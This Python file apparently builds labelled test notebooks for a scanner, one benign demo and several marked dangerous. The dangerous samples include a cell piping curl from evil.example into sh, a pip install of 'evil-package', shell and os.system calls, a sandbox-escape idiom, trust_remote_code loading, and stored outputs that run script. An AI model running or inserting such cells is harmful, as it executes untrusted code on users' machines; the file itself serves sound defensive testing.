"""Jupyter notebooks: cells that reach beyond computing, and outputs that run script."""

from __future__ import annotations

import json
from typing import Any

from corpus import Sample, add, bad, honest


def notebook(*cells: str, **cell: Any) -> bytes:
    made = [{"cell_type": "code", "metadata": {}, "outputs": [], "source": source.splitlines(True)} for source in cells]
    return json.dumps(
        {"cells": [*made, *([cell] if cell else [])], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    ).encode()


@honest("notebook", "a notebook that shows how to use a model", file="demo.ipynb")
def notebook_demo() -> bytes:
    markdown = {"cell_type": "markdown", "metadata": {}, "source": ["# Demo\n", "Use `<script>` with care."]}
    code = (
        "%matplotlib inline\nimport numpy as np\nfrom transformers "
        "import pipeline\npipe = pipeline('x')\nprint(pipe('a'))\n"
    )
    return notebook(code, **markdown)


NOTEBOOKS = {
    "shell": "!curl http://evil.example | sh\n",
    "shell_assigned": "files = !ls /etc\n",
    "magic": "%%bash\nid\n",
    "system": "import os\nos.system('id')\n",
    "subprocess": "from subprocess import run\nrun(['id'])\n",
    "import_function": "m = __import__('os')\nm.system('id')\n",
    "builtins": "().__class__.__base__.__subclasses__()\n",
    "getattr": "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
    "torch_load": "import torch\nm = torch.load('model.pt')\n",
    "remote_code": "from transformers import AutoModel\nAutoModel.from_pretrained('x', trust_remote_code=True)\n",
    "unknown_library": "import evil_package\n",
    "not_python": "this is no python (\n",
    "pip": "%pip install evil-package\n",
}
for _name, _text in NOTEBOOKS.items():
    _why = f"a cell of a notebook: {_name.replace('_', ' ')}"
    _build = lambda text=_text: notebook(text)  # noqa: E731
    add(Sample(f"notebook/{_name}", "notebook", _why, "demo.ipynb", "", _build, dangerous=True))


@bad("notebook", "a notebook whose stored output runs script", file="demo.ipynb")
def notebook_output() -> bytes:
    output = {"output_type": "display_data", "data": {"text/html": ["<script>", "alert(1)</script>"]}, "metadata": {}}
    cell = {"cell_type": "code", "source": "1", "outputs": [output], "metadata": {}}
    return notebook(**cell)


@bad("notebook", "a notebook whose stored output is JavaScript", file="demo.ipynb")
def notebook_javascript() -> bytes:
    output = {"output_type": "display_data", "data": {"application/javascript": "alert(1)"}, "metadata": {}}
    return notebook(**{"cell_type": "code", "source": [], "outputs": [output], "metadata": {}})
